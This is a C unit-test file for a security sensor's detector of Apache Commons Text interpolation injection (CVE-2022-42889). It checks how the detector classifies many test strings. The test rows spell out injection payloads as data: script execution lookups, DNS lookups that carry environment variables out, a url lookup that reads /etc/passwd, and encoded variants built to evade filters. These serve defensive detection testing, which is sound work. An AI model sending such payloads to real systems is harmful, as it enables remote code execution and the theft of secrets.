/* Tests of the look-ups of Commons Text. What each text asks was taken from Commons Text itself,
 * with script, dns and url replaced by look-ups that only take notes, once as its interpolator
 * comes and once with nesting in names turned on. */
#include "sensor/base/bytes.h"
#include "sensor/base/sbuf.h"
#include "signatures/lookup.h"
#include "signatures/peel.h"
#include "tests/unit/runner.h"

#include <stdio.h>

static const uint64_t event_time_us = UINT64_C(1639139696000000);

static struct lookup *lookup;
static struct peeler *peeler;
static struct lookup_result result;

static int start(void)
{
    lookup = lookup_new();
    peeler = peeler_new();
    return lookup == NULL || peeler == NULL;
}

static int end(void)
{
    lookup_free(&lookup);
    peeler_free(&peeler);
    return lookup != NULL;
}

/* Names joined by " | ". */
static bool asks(const struct lookup_result *r, const char *expected)
{
    struct sbuf out = sbuf_with_cap(1 << 16);
    for (size_t i = 0; i < r->n_names; i++) {
        sbuf_add_str(&out, i > 0 ? " | " : "");
        sbuf_add(&out, r->names[i].text);
    }
    bool equal = span_equal(sbuf_span(&out), span_str(expected));
    sbuf_free(&out);
    return equal;
}

static void evaluate(const char *text)
{
    struct lookup_options options = {.dialect = LOOKUP_COMMONS_TEXT, .time_us = event_time_us};
    lookup_evaluate(lookup, span_str(text), &options, &result);
}

struct row {
    const char *text;
    enum lookup_class class;
    const char *names;
};

static void check(const struct row *rows, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        evaluate(rows[i].text);
        bool good = result.class == rows[i].class && asks(&result, rows[i].names);
        if (!good) {
            printf("\n%s: %s", rows[i].text, lookup_class_name(result.class));
        }
        CU_ASSERT(good);
        CU_ASSERT_EQUAL(result.dialect, LOOKUP_COMMONS_TEXT);
        CU_ASSERT_EQUAL(result.cves, result.class == LOOKUP_NONE ? 0u : 1u << CVE_2022_42889);
    }
}

static void asks_as_the_interpolator_comes(void)
{
    static const struct row rows[] = {
        {"${script:javascript:1}", LOOKUP_ATTACK, "script:javascript:1"},
        {"a ${SCRIPT:js:1} b", LOOKUP_ATTACK, "script:js:1"},
        {"$${a ${script:js:1}}", LOOKUP_ATTACK, "script:js:1"},
        {"${a:-${script:js:1}} ${dns:b}", LOOKUP_ATTACK, "dns:b"},
        {"${base64Decoder:JHtzY3JpcHQ6anM6MX0=}", LOOKUP_ATTACK, "script:js:1"},
        {"${base64:JHtzY3JpcHQ6anM6MX0}", LOOKUP_ATTACK, "script:js:1"},
        {"${urlDecoder:%24%7Bscript:js:1%7D}", LOOKUP_ATTACK, "script:js:1"},
        {"${urlDecoder:${script:js:1%7D}", LOOKUP_ATTACK, "script:js:1"},
        {"${dns:address|x.example}", LOOKUP_ATTACK, "dns:address|x.example"},
        {"${dns:${env:HOME}.x}", LOOKUP_ATTACK, "dns:${env:HOME"},
        {"${script:js:1:-x}", LOOKUP_ATTACK, "script:js:1"},
        {"${dns::-x}", LOOKUP_ATTACK, "dns:"},
        {"${script:js:1} ${java:nosuch}", LOOKUP_ATTACK, "script:js:1"},
        {"${base64Decoder:!!} ${dns:a}", LOOKUP_ATTACK, "dns:a"},
        {"${localhost:name}${dns:a}", LOOKUP_ATTACK, "dns:a"},
        {"${x}${dns:a}}", LOOKUP_ATTACK, "dns:a"},
        {"${dns:a:-${dns:b}}", LOOKUP_ATTACK, "dns:a"},
        {"${url:UTF-8:http://x/a}", LOOKUP_ATTACK, "url:UTF-8:http://x/a"},
        {"${url:UTF-8:file:/etc/passwd}", LOOKUP_ATTACK, "url:UTF-8:file:/etc/passwd"},
        {"${dns:a} ${dns:a} ${dns:b}", LOOKUP_ATTACK, "dns:a | dns:b"},
    };
    check(rows, ARRAY_LEN(rows));
}

static void what_other_text_or_settings_make_fire_is_conditional(void)
{
    static const struct row rows[] = {
        {"${a:-${script:js:1}}", LOOKUP_CONDITIONAL, "script:js:1"},
        {"${${::-s}cript:js:1}", LOOKUP_CONDITIONAL, "script:js:1"},
        {"${urlEncoder:${script:js:1}}", LOOKUP_CONDITIONAL, "script:js:1"},
        {"${x${dns:a}}", LOOKUP_CONDITIONAL, "dns:a"},
        {"${a:-$${script:js:1}}", LOOKUP_CONDITIONAL, "script:js:1"},
        {"${a:\\-b:-$${script:js:1}}", LOOKUP_CONDITIONAL, "script:js:1"},
        {"$${script:javascript:1}", LOOKUP_CONDITIONAL, "script:javascript:1"},
        {"$$${script:js:1}", LOOKUP_CONDITIONAL, "script:js:1"},
        {"${script:js:1", LOOKUP_CONDITIONAL, "script:js:1"},
    };
    check(rows, ARRAY_LEN(rows));
}

static void what_is_refused_or_lost_is_an_attempt(void)
{
    static const struct row rows[] = {
        {"${script:alert(1)}", LOOKUP_ATTEMPT, ""},
        {"${url:http://x/a}", LOOKUP_ATTEMPT, ""},
        {"${url:UTF-8:gopher://x/a}", LOOKUP_ATTEMPT, ""},
        {"${java:nosuch} ${script:js:1}", LOOKUP_ATTEMPT, ""},
        {"${urlDecoder:%2} ${dns:a}", LOOKUP_ATTEMPT, ""},
        {"${date:'x} ${dns:a}", LOOKUP_ATTEMPT, ""},
    };
    check(rows, ARRAY_LEN(rows));
    evaluate("${script:alert(1)}");
    CU_ASSERT(span_equal(result.attempt, SPAN("${script:alert(1)}")));
}

static void all_else_is_nothing(void)
{
    static const struct row rows[] = {
        {"", LOOKUP_NONE, ""},
        {"${ script:js:1}", LOOKUP_NONE, ""},
        {"${::-script:js:1}", LOOKUP_NONE, ""},
        {"${foo:script:js:1}", LOOKUP_NONE, ""},
        {"${dns:-x}", LOOKUP_NONE, ""},
        {"${script}", LOOKUP_NONE, ""},
        {"${url:home}", LOOKUP_NONE, ""},
        {"${script:loader}", LOOKUP_NONE, ""},
        {"${jndi:ldap://x/a}", LOOKUP_NONE, ""},
        {"${env:HOME} ${sys:user.name} ${const:java.awt.event.KeyEvent.VK_ESCAPE}", LOOKUP_NONE,
         ""},
        {"${file:UTF-8:/etc/passwd} ${xml:a:/b} ${properties:a::b}", LOOKUP_NONE, ""},
        {"${date:yyyy-MM-dd} ${localhost:canonical-name} ${java:version}", LOOKUP_NONE, ""},
        {"${base64Decoder:JHtzY3JpcHQ6 anM6MX0=}", LOOKUP_NONE, ""},
    };
    check(rows, ARRAY_LEN(rows));
}

static void log4j_takes_no_notice_of_them(void)
{
    struct lookup_options options = {.time_us = event_time_us};
    lookup_evaluate(lookup, SPAN("${script:js:1} ${dns:a} ${url:UTF-8:http://x/}"), &options,
                    &result);
    CU_ASSERT_EQUAL(result.class, LOOKUP_NONE);
    CU_ASSERT_EQUAL(result.n_names, 0);
}

static void check_callback(const char *name, const char *scheme, const char *host, unsigned port,
                           const char *path)
{
    struct lookup_callback c = lookup_callback(LOOKUP_COMMONS_TEXT, span_str(name));
    CU_ASSERT(span_equal(c.scheme, span_str(scheme)));
    CU_ASSERT(span_equal(c.host, span_str(host)));
    CU_ASSERT_EQUAL(c.port, port);
    CU_ASSERT(span_equal(c.path, span_str(path)));
}

static void says_whom_it_would_call(void)
{
    check_callback("dns:address|x.example", "dns", "x.example", 0, "");
    check_callback("dns: x.example ", "dns", "x.example", 0, "");
    check_callback("url:UTF-8:http://u@x.example:8080/a?b", "http", "x.example", 8080, "/a?b");
    check_callback("url:UTF-8:HTTPS://x?b", "HTTPS", "x", 443, "?b");
    check_callback("url:UTF-8:jar:http://x/a.jar!/b", "http", "x", 80, "/a.jar!/b");
    check_callback("url:UTF-8:file:///etc/passwd", "", "", 0, "");
    check_callback("script:js:1", "", "", 0, "");
    evaluate("${url:UTF-8:file:///etc/passwd}");
    CU_ASSERT(!result.names[0].reaches_network);
    evaluate("${dns:x}");
    CU_ASSERT(result.names[0].reaches_network);
    CU_ASSERT(span_equal(result.names[0].scheme, SPAN("dns")));
    CU_ASSERT(span_equal(result.host, SPAN("x")));
}

static void variables_that_would_leave_are_told(void)
{
    evaluate("${dns:address|${env:KEY}.${localhost:name}.x}");
    CU_ASSERT_EQUAL(result.class, LOOKUP_ATTACK); /* of what stands before the first '}' */
    CU_ASSERT(asks(&result, "dns:address|${env:KEY"));
    evaluate("${x${dns:address|${env:KEY}.${localhost:name}.x}}");
    CU_ASSERT_EQUAL(result.class, LOOKUP_CONDITIONAL);
    CU_ASSERT(asks(&result, "dns:address|${env:KEY}.${localhost:name}.x"));
    CU_ASSERT_EQUAL(result.n_variables, 2);
}

static void is_found_behind_outer_encodings(void)
{
    static const char *const texts[] = {
        "%24%7bscript:js:1%7d",
        "$%7bs%63ript:js:1}",
        "%2524%257bscript:js:1%257d",
        "&#36;&lbrace;script:js:1&rcub;",
        "\\u0024\\u007b\\u0073cript:js:1}",
        "JHtzY3JpcHQ6anM6MX0=",
        "=?utf-8?B?JHtzY3JpcHQ6anM6MX0=?=",
        "=24=7Bscri=\r\npt:js:1}",
    };
    for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
        struct peel_hints hints = {.dialect = LOOKUP_COMMONS_TEXT, .time_us = event_time_us};
        struct peel_result r;
        CU_ASSERT(peel_may_hide(span_str(texts[i])));
        CU_ASSERT_EQUAL(peel_and_evaluate(peeler, span_str(texts[i]), &hints, &r), LOOKUP_ATTACK);
        CU_ASSERT(asks(&r.lookup, "script:js:1"));
        hints.dialect = LOOKUP_LOG4J;
        CU_ASSERT_EQUAL(peel_and_evaluate(peeler, span_str(texts[i]), &hints, &r), LOOKUP_NONE);
        CU_ASSERT(r.commons);
    }
}

static void names_without_a_meaning_hide_nothing(void)
{
    static const char *const texts[] = {"${script}", "${urls:x}", "${ dns:a}",
                                        "$ {dns:a}", "dns:a",     "${env:HOME}"};
    for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
        CU_ASSERT(!peel_may_hide(span_str(texts[i])));
    }
}

static void work_is_bounded(void)
{
    static const char *const pieces[] = {
        "${", "${dns:a", "$${dns:a}", "${a:-", "${base64:JHs=}", "${dns:", "${script:js:1}"};
    for (size_t i = 0; i < ARRAY_LEN(pieces); i++) {
        struct sbuf text = sbuf_with_cap(200000);
        while (text.len + 32 < text.cap) {
            sbuf_add_str(&text, pieces[i]);
        }
        uint64_t fuel = LOOKUP_FUEL;
        struct lookup_options options = {.dialect = LOOKUP_COMMONS_TEXT, .fuel = &fuel};
        lookup_evaluate(lookup, sbuf_span(&text), &options, &result);
        CU_ASSERT(result.over_budget || fuel > 0);
        sbuf_free(&text);
    }
}

static CU_TestInfo commons_tests[] = {
    {"asks as the interpolator comes", asks_as_the_interpolator_comes},
    {"what other text or settings make fire is conditional",
     what_other_text_or_settings_make_fire_is_conditional},
    {"what is refused or lost is an attempt", what_is_refused_or_lost_is_an_attempt},
    {"all else is nothing", all_else_is_nothing},
    {"log4j takes no notice of them", log4j_takes_no_notice_of_them},
    {"says whom it would call", says_whom_it_would_call},
    {"variables that would leave are told", variables_that_would_leave_are_told},
    {"is found behind outer encodings", is_found_behind_outer_encodings},
    {"names without a meaning hide nothing", names_without_a_meaning_hide_nothing},
    {"work is bounded", work_is_bounded},
    CU_TEST_INFO_NULL,
};

int main(void)
{
    CU_SuiteInfo suites[] = {
        {"Commons Text", start, end, NULL, NULL, commons_tests},
        CU_SUITE_INFO_NULL,
    };
    return run_suites(suites);
}
